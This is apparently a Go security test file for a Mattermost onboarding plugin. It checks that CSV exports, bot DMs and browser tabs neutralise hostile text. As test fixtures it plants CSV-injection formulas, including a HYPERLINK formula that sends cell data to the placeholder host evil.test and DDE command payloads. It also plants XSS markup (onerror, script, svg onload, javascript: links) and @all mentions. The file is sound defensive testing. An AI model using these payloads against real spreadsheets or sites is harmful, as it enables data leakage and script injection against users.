package cockpit

// Injection is inert where the server puts admin- or user-controlled text: a plan task's title and
// notes carrying spreadsheet formulas and markup come back out of every CSV export neutralised (no
// cell a spreadsheet would run), and a user whose first name is markdown/HTML/mention text gets a
// welcome DM in which all of it is escaped (stored post text, read back from the server).
//
// Every CSV export is found from the route table (GET routes ending in /export, asked for
// ?format=csv), so exports added later are checked too.

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/mattermost/mattermost/server/public/model"

	"github.com/onboarding-cockpit/onboarding-cockpit/e2e/contract"
)

// formulaPayloads are what a spreadsheet would run if a cell started with them.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.test/?leak="&A1,"click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
}

const markupPayload = `<img src=x onerror=alert(1)><script>alert(2)</script> **bold** [x](javascript:alert(3)) @all`

// formulaStarts are the first characters that make a spreadsheet cell a formula (OWASP CSV injection).
const formulaStarts = "=+-@\t\r"

func TestHardeningCSVExportsNeutraliseFormulas(t *testing.T) {
	lockPlan(t)
	restorePlanAtCleanup(t)
	f := hardeningCallers(t)
	w := hardeningWorldFor(t)
	tok := f.admin.token

	// Hostile text into the plan (title and notes of one task): the audit trail records before/after.
	cur := getPlan(t)
	_, task := firstRequiredTask(cur)
	notes := strings.Join(formulaPayloads, "\n") + "\n" + markupPayload
	if r := patchTask(
		t,
		tok,
		task.ID,
		cur.Plan.Version,
		map[string]any{"title": formulaPayloads[0], "notes": notes},
	); r.Status != http.StatusOK {
		t.Fatalf("PATCH the task with hostile text: %s", r)
	}
	// A success target with a hostile label (the list is restored at the end).
	label := setHostileAdoptionTarget(t, tok)

	// What each export must carry, neutralised (a cell that is exactly the payload with a ' before
	// it): proof that the hostile text reached the file, so a clean file is not a vacuous pass.
	mustCarry := map[string]string{
		"/api/v1/audit/export?format=csv":                    "", // the payload is inside before/after JSON cells
		"/api/v1/waves/:waveId/activation/export?format=csv": "'" + w.users[0].Username,
		"/api/v1/adoption/export?series=targets":             "'" + label,
	}
	carried := map[string]bool{}

	routes := loadRouteTable(t)
	var checked []string
	sawPayload := false
	for _, r := range routes {
		if r.Method != http.MethodGet || !strings.HasSuffix(r.Path, "/export") {
			continue
		}
		route, missing := w.fillRouteReal(f, r)
		if missing != "" {
			t.Errorf("%s: no real id for :%s; give hardening_world_test.go one", r, missing)
			continue
		}
		for _, q := range exportQueries(t, r) {
			variant := r.Path
			u := route
			if q != "" {
				variant += "?" + q
				if strings.Contains(u, "?") {
					u += "&" + q
				} else {
					u += "?" + q
				}
			}
			res := requestRoute(t, http.MethodGet, u, tok, nil)
			if res.Status != http.StatusOK {
				t.Errorf("%s: %s; every export must answer for real ids", variant, res)
				continue
			}
			if !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
				if !json.Valid(res.Body) {
					t.Errorf("%s: neither CSV nor JSON (%s)", variant, res.Header.Get("Content-Type"))
				}
				continue // a JSON export (no spreadsheet runs it)
			}
			if cd := res.Header.Get("Content-Disposition"); !safeDisposition.MatchString(cd) {
				t.Errorf("%s: Content-Disposition %q is not a plain attachment filename", variant, cd)
			}
			rd := csv.NewReader(strings.NewReader(string(res.Body)))
			rd.FieldsPerRecord = -1
			records, err := rd.ReadAll()
			if err != nil {
				t.Errorf("%s: not valid CSV: %v", variant, err)
				continue
			}
			want, wanted := mustCarry[variant]
			for i, rec := range records {
				for j, cell := range rec {
					if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
						t.Errorf("%s row %d col %d starts a formula: %q", variant, i+1, j+1, cell)
					}
					if strings.Contains(cell, "HYPERLINK") {
						sawPayload = true
					}
					if wanted && want != "" && cell == want {
						carried[variant] = true
					}
				}
			}
			if wanted && want == "" && strings.Contains(string(res.Body), "HYPERLINK") {
				carried[variant] = true
			}
			checked = append(checked, fmt.Sprintf("%s (%d rows)", variant, len(records)))
		}
	}
	for variant := range mustCarry {
		if !carried[variant] {
			t.Errorf("%s: the hostile text is not in it (neutralised): the check proved nothing there", variant)
		}
	}
	if len(checked) == 0 {
		t.Fatal("no CSV export answered: nothing was checked")
	}
	if !sawPayload {
		t.Errorf("the hostile task title is in none of the CSV exports (%s): the check proved nothing", strings.Join(checked, ", "))
	}
	t.Logf("CSV exports checked: %s", strings.Join(checked, "; "))
}

// safeDisposition: an attachment whose filename cannot break out of its quotes or the header.
var safeDisposition = regexp.MustCompile(`^attachment; filename="[^"\\\r\n;/]+"$`)

// exportQueries are the query strings an export route is asked with: format=csv, and one per value of
// a series the route's contract lists (read from contract/*.ts, so new series are covered).
func exportQueries(t *testing.T, r routeEntry) []string {
	t.Helper()
	if r.Path != "/api/v1/adoption/export" {
		return []string{"format=csv"}
	}
	b, err := os.ReadFile(filepath.Join("..", "..", "contract", "adoption.ts"))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`ADOPTION_EXPORT_SERIES = \[([^\]]+)\]`).FindSubmatch(b)
	if m == nil {
		t.Fatal("contract/adoption.ts: ADOPTION_EXPORT_SERIES not found")
	}
	var out []string
	for _, v := range regexp.MustCompile(`'([a-z_]+)'`).FindAllSubmatch(m[1], -1) {
		out = append(out, "series="+string(v[1]))
	}
	return out
}

// setHostileAdoptionTarget adds a success target whose label is a formula and markup; the previous
// list is put back at the end. Returns the label.
func setHostileAdoptionTarget(t *testing.T, tok string) string {
	t.Helper()
	label := `=HYPERLINK("http://evil.test/t","t") <img src=x onerror=alert(1)> **t** @all`
	setAdoptionTargetLabel(t, tok, label)
	return label
}

// setAdoptionTargetLabel adds a success target with the label; the previous list is put back at the end.
func setAdoptionTargetLabel(t *testing.T, tok, label string) {
	t.Helper()
	var current contract.AdoptionResponse
	r := call(t, http.MethodGet, "/api/v1/adoption", tok, nil)
	if r.Status != http.StatusOK || json.Unmarshal(r.Body, &current) != nil {
		t.Fatalf("GET /api/v1/adoption: %s", r)
	}
	before := []any{}
	for _, p := range current.Progress {
		before = append(before, p.Target)
	}
	targets := append(append([]any{}, before...), map[string]any{
		"id": "hardening-" + model.NewId()[:6], "label": label, "metric": "daily_active",
		"kind": "count", "threshold": 10, "due": "2030-01-01",
	})
	r = call(
		t,
		http.MethodPut,
		"/api/v1/adoption/targets",
		tok,
		mustJSON(t, map[string]any{"expected_version": current.TargetsVersion, "targets": targets}),
	)
	var saved contract.TargetsResponse
	if r.Status != http.StatusOK || json.Unmarshal(r.Body, &saved) != nil {
		t.Fatalf("PUT a hostile adoption target: %s", r)
	}
	t.Cleanup(func() {
		if r := call(
			t,
			http.MethodPut,
			"/api/v1/adoption/targets",
			tok,
			mustJSON(t, map[string]any{"expected_version": saved.Version, "targets": before}),
		); r.Status != http.StatusOK {
			t.Errorf("restore the adoption targets: %s", r)
		}
	})
}

// unescapedTag is an HTML tag start without the backslash the plugin's escaping puts before <.
var unescapedTag = regexp.MustCompile(`(^|[^\\])<(img|script)`)

// escapeMarkdownLikeThePlugin is server/src/welcome/template.ts escapeMarkdown: what user and admin
// text must look like inside a bot post.
func escapeMarkdownLikeThePlugin(s string) string {
	s = regexp.MustCompile(`[\r\n\t]+`).ReplaceAllString(s, " ")
	var b strings.Builder
	for _, r := range s {
		switch {
		case r == '@':
			b.WriteRune('＠')
		case strings.ContainsRune(markdownSpecials, r):
			b.WriteRune('\\')
			b.WriteRune(r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// TestHardeningBotDMsEscapeAdminAndUserText reads back, from the server, the bot posts that carry
// other people's text: the help-desk notice (a user's hostile first/last name and username, an
// admin's hostile wave name) and a team admin's role-template proposal DM (hostile template name,
// description and the proposing admin's note). Each piece must be there, escaped exactly as the
// plugin's escapeMarkdown does, and nothing may mention anyone (@) or keep raw markup.
func TestHardeningBotDMsEscapeAdminAndUserText(t *testing.T) {
	f := hardeningCallers(t)
	w := hardeningWorldFor(t)

	check := func(what string, post *model.Post, pieces map[string]string) {
		t.Helper()
		props, _ := json.Marshal(post.GetProps())
		all := post.Message + "\n" + string(props)
		for name, raw := range pieces {
			if want := escapeMarkdownLikeThePlugin(raw); !strings.Contains(post.Message, want) {
				t.Errorf("%s: the %s is not in the message escaped as %q: %q", what, name, want, post.Message)
			}
		}
		for _, raw := range []string{"@all", "@channel", "](javascript:", hostileText} {
			if strings.Contains(all, raw) {
				t.Errorf("%s: %q survives unescaped in the post: %q", what, raw, all)
			}
		}
		if m := unescapedTag.FindString(all); m != "" {
			t.Errorf("%s: an unescaped tag %q survives in the post: %q", what, m, all)
		}
		t.Logf("%s stored by the server: %q", what, post.Message)
	}

	u := w.users[1]
	check("help-desk notice", w.helpNotice, map[string]string{
		"user's name": u.FirstName + " " + u.LastName,
		"username":    u.Username,
		"wave name":   w.waveName,
	})

	teamAdmin := model.NewAPIv4Client(env.s.URL)
	teamAdmin.SetToken(f.callers[1].token)
	me, _, err := teamAdmin.GetMe(ctx(t), "")
	if err != nil {
		t.Fatal(err)
	}
	dm := proposalDM(t, teamAdmin, me.Id, w.proposalID, f.team.Id)
	check("role-template proposal DM", dm, map[string]string{
		"template name":        w.templateName,
		"template description": w.templateDesc,
		"admin's note":         w.proposalNote,
	})
}

// markdownSpecials are the characters that start a Markdown/Mattermost construct.
const markdownSpecials = "\\`*_{}[]()#+-.!|<>~:&=$"

func TestHardeningWelcomeDMEscapesUserText(t *testing.T) {
	f := hardeningCallers(t)
	admin := model.NewAPIv4Client(env.s.URL)
	admin.SetToken(f.admin.token)
	me, _, err := admin.GetMe(ctx(t), "")
	if err != nil {
		t.Fatal(err)
	}
	hostile := "*B* [x](javascript:a) @all <img src=x> #h |t| =1+1"
	if _, _, patchErr := admin.PatchUser(ctx(t), me.Id, &model.UserPatch{FirstName: &hostile}); patchErr != nil {
		t.Fatalf("set a hostile first name: %v", patchErr)
	}
	t.Cleanup(func() {
		name := "Admin"
		_, _, _ = admin.PatchUser(ctx(t), me.Id, &model.UserPatch{FirstName: &name})
	})

	// A draft wave (never started), deleted at the end.
	wave := createWave(t, f.admin.token, map[string]any{
		"name":    "hardening " + model.NewId()[:6],
		"cohort":  map[string]any{"team_ids": []string{f.team.Id}},
		"targets": map[string]any{"teams": []map[string]any{{"team_id": f.otherTeam.Id}}},
		"welcome": map[string]any{"enabled": true, "template": "Hi {{first_name}}!", "help_link": ""},
	})
	t.Cleanup(func() {
		r := requestRoute(
			t,
			http.MethodDelete,
			"/api/v1/waves/"+wave.ID,
			f.admin.token,
			mustJSON(t, map[string]any{"expected_version": wave.Version}),
		)
		if r.Status != http.StatusOK {
			t.Errorf("delete the draft wave: %s", r)
		}
	})

	r := requestRoute(t, http.MethodPost, "/api/v1/waves/"+wave.ID+"/welcome/test-send", f.admin.token, []byte(`{}`))
	if r.Status != http.StatusOK {
		t.Fatalf("welcome test-send: %s", r)
	}
	var sent contract.WelcomeTestSendResponse
	if unmarshalErr := json.Unmarshal(r.Body, &sent); unmarshalErr != nil || sent.PostID == "" {
		t.Fatalf("test-send answer %s: %v", r, unmarshalErr)
	}
	post, _, err := admin.GetPost(ctx(t), sent.PostID, "")
	if err != nil {
		t.Fatalf("read the DM back: %v", err)
	}
	msg := post.Message
	if !strings.HasPrefix(msg, "Hi ") || !strings.HasSuffix(msg, "!") {
		t.Fatalf("DM %q is not the template", msg)
	}
	name := strings.TrimSuffix(strings.TrimPrefix(msg, "Hi "), "!")
	if strings.Contains(name, "@") {
		t.Errorf("the DM keeps an @ from the name (a mention would notify): %q", msg)
	}
	// Every markdown special from the name is escaped with a backslash (an escaped backslash counts as one).
	runes := []rune(name)
	for i := 0; i < len(runes); i++ {
		if runes[i] == '\\' {
			i++ // the escaped character
			continue
		}
		if strings.ContainsRune(markdownSpecials, runes[i]) {
			t.Errorf("unescaped %q at %d in the DM's name %q", runes[i], i, name)
		}
	}
	// Nothing of the name was dropped: unescaped it reads as the original (the @ as ＠).
	plain := strings.NewReplacer("\\", "").Replace(name)
	if want := strings.ReplaceAll(hostile, "@", "＠"); plain != want {
		t.Errorf("the DM's name unescaped is %q, want %q", plain, want)
	}
	t.Logf("welcome DM stored by the server: %q", msg)
}

// TestBrowserHardeningInjection stores hostile markup through the API wherever an admin can put
// text that the cockpit shows (a plan phase's title and description, a task's title and notes —
// also in the audit trail —, a draft wave's name and welcome template, a role
// template's name and description, an adoption target's label, the brand texts), then opens every
// cockpit tab in Chromium (e2e/browser/hardening.spec.mjs, HARDENING_PART=tabs): nothing runs,
// nothing is injected, the Plan tab shows the hostile title as text. Screenshots:
// e2e/artifacts/hardening-<tab>.png. The stakeholder status page: TestBrowserHardeningStatusPage.
func TestBrowserHardeningInjection(t *testing.T) {
	lockPlan(t)
	restorePlanAtCleanup(t)
	tok := env.adminClient.AuthToken
	payload := hostilePayload
	title := "Hostile " + payload("task")
	cur := getPlan(t)
	phase, task := firstRequiredTask(cur)
	if r := patchTask(t, tok, task.ID, cur.Plan.Version, map[string]any{
		"title": title,
		"notes": `<script data-hardening>window.__xss='notes'</script>` +
			`<svg data-hardening onload="window.__xss='svg'"></svg> **bold** ` + payload("notes"),
	}); r.Status != http.StatusOK {
		t.Fatalf("PATCH the task: %s", r)
	}
	cur = getPlan(t)
	if r := call(t, http.MethodPatch, "/api/v1/plan/phases/"+phase.ID, tok, mustJSON(t, map[string]any{
		"expected_version": cur.Plan.Version,
		"changes": map[string]any{"title": "Phase " + payload("phase"), "description": `<iframe data-hardening ` +
			`src="javascript:window.__xss='iframe'"></iframe>`},
	})); r.Status != http.StatusOK {
		t.Fatalf("PATCH the phase: %s", r)
	}

	wave := createWave(t, tok, map[string]any{
		"name":    "Wave " + payload("wave"),
		"cohort":  map[string]any{"team_ids": []string{env.teamA.Id}},
		"targets": map[string]any{"teams": []map[string]any{{"team_id": env.teamB.Id}}},
		"welcome": map[string]any{"enabled": true, "template": "Hi {{first_name}} " + payload("welcome"), "help_link": ""},
	})
	t.Cleanup(func() {
		if r := requestRoute(
			t,
			http.MethodDelete,
			"/api/v1/waves/"+wave.ID,
			tok,
			mustJSON(t, map[string]any{"expected_version": wave.Version}),
		); r.Status != http.StatusOK {
			t.Errorf("delete the draft wave: %s", r)
		}
	})

	// Role template: name and description (the Role templates tab lists them); an adoption target's
	// label (Adoption tab and the stakeholder page); the brand texts (Branding tab preview), restored.
	r := call(t, http.MethodPost, "/api/v1/templates", tok, mustJSON(t, map[string]any{
		"name": `Tpl <img data-hardening src=x onerror="window.__xss='tpl'">`, "description": payload("template-description"),
		"moderation": map[string]any{"create_post": map[string]any{"members": true, "guests": false}},
	}))
	if r.Status != http.StatusCreated {
		t.Fatalf("create the hostile template: %s", r)
	}
	var tpl contract.Template
	decodeInto(t, r, &tpl)
	t.Cleanup(func() {
		if r := call(
			t,
			http.MethodDelete,
			fmt.Sprintf("/api/v1/templates/%s", tpl.ID),
			tok,
			mustJSON(t, map[string]any{"expected_version": tpl.Version}),
		); r.Status != http.StatusOK &&
			r.Status != http.StatusNoContent {
			t.Logf("delete the hostile template: %s", r)
		}
	})
	setAdoptionTargetLabel(t, tok, "Target "+payload("target"))
	brand := getBranding(t, tok)
	hostileBrand := brandingValues{}
	maps.Copy(hostileBrand, brand.Values)
	for _, k := range []string{"banner_color", "banner_text_color"} {
		if s, _ := hostileBrand[k].(string); len(s) != 7 {
			hostileBrand[k] = "#123456"
		}
	}
	hostileBrand["site_name"] = "Site <b data-hardening>x</b>"
	hostileBrand["custom_description_text"] = payload("description")
	hostileBrand["custom_brand_text"] = payload("brand")
	hostileBrand["enable_custom_brand"] = true
	if code, body := brandingRequest(
		t,
		http.MethodPost,
		"/api/v1/branding/apply",
		tok,
		map[string]any{"expected_version": brand.Version, "values": hostileBrand},
	); code != http.StatusOK {
		t.Fatalf("apply hostile brand texts: %d %s", code, body)
	}
	t.Cleanup(func() {
		now := getBranding(t, tok)
		restore := brandingValues{}
		maps.Copy(restore, brand.Values)
		for _, k := range []string{"banner_color", "banner_text_color"} {
			if s, _ := restore[k].(string); len(s) != 7 {
				restore[k] = hostileBrand[k]
			}
		}
		if code, body := brandingRequest(
			t,
			http.MethodPost,
			"/api/v1/branding/apply",
			tok,
			map[string]any{"expected_version": now.Version, "values": restore},
		); code != http.StatusOK {
			t.Errorf("restore the brand texts: %d %s", code, body)
		}
	})

	runBrowserSpec(t, "hardening.spec.mjs", "HARDENING_PART=tabs", "HOSTILE_TITLE="+title, "HARDENING_SCREENSHOT_DIR="+artifactsDir())
}

// hostilePayload is markup that carries data-hardening and sets window.__xss if it ever runs.
func hostilePayload(where string) string {
	return `<img data-hardening src=x onerror="window.__xss='` + where + `'"> [x](javascript:window.__xss='` + where + `-link')`
}

// TestBrowserHardeningStatusPage stores a started wave with a hostile name and an adoption target
// with a hostile label (the two admin texts the stakeholder status page shows), lists a non-admin as
// a stakeholder, and opens the status page as them in Chromium (e2e/browser/hardening.spec.mjs,
// HARDENING_PART=status): nothing runs, nothing is injected, both texts are shown as text.
// Screenshot: e2e/artifacts/hardening-status-page.png.
func TestBrowserHardeningStatusPage(t *testing.T) {
	tok := env.adminClient.AuthToken
	target := "Target " + hostilePayload("target")
	setAdoptionTargetLabel(t, tok, target)
	restoreStakeholderAccess(t)
	people := stakeholderUsers(t, 1)
	access := getStakeholderAccess(t)
	if r := putStakeholderAccess(t, tok, access.Version, []string{people[0].Username}, nil); r.Status != http.StatusOK {
		t.Fatalf("list the stakeholder: %s", r)
	}
	// A wave that ran, with the hostile name (the page lists every wave with its counts).
	src, tgt, _, _ := waveFixtureUsers(t, "hbw", 1)
	name := "Ran " + hostilePayload("started-wave")
	started := createWave(t, tok, map[string]any{
		"name":    name,
		"cohort":  map[string]any{"team_ids": []string{src.Id}},
		"targets": map[string]any{"teams": []map[string]any{{"team_id": tgt.Id}}},
		"welcome": map[string]any{"enabled": false},
	})
	runWave(t, tok, started)

	runBrowserSpec(t, "hardening.spec.mjs", "HARDENING_PART=status", "HARDENING_SCREENSHOT_DIR="+artifactsDir(),
		"STAKEHOLDER_USER="+people[0].Username, "USER_PASSWORD="+env.s.Password, "TEAM_NAME="+env.teamA.Name,
		"HOSTILE_WAVE="+name, "HOSTILE_TARGET="+target)
}
